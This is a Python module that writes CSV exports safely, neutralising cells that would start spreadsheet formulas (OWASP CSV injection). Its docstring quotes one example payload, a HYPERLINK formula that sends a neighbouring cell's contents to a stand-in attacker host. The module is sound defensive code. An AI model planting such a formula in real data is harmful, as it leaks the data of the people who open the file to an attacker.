"""CSV that is safe to open in a spreadsheet: the one writer behind every export.

OWASP "CSV Injection": a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a
formula by Excel, LibreOffice and Google Sheets, so a job title typed into the HRIS as
`=HYPERLINK("https://evil.test?"&A1)` would run in HR's spreadsheet. Such text cells get a leading `'`
(shown as text, not run); numbers are left as numbers, so `-0.05` stays a negative lift.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """A text cell that would start a formula, prefixed with `'`; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """Header and rows as CSV text (RFC 4180 line ends), every cell neutralised. With CRLF line ends the
    writer quotes any cell holding a CR or LF, so a bare CR inside HRIS text cannot start a new row."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([safe_cell(h) for h in header])
    writer.writerows([safe_cell(v) for v in row] for row in rows)
    return out.getvalue()
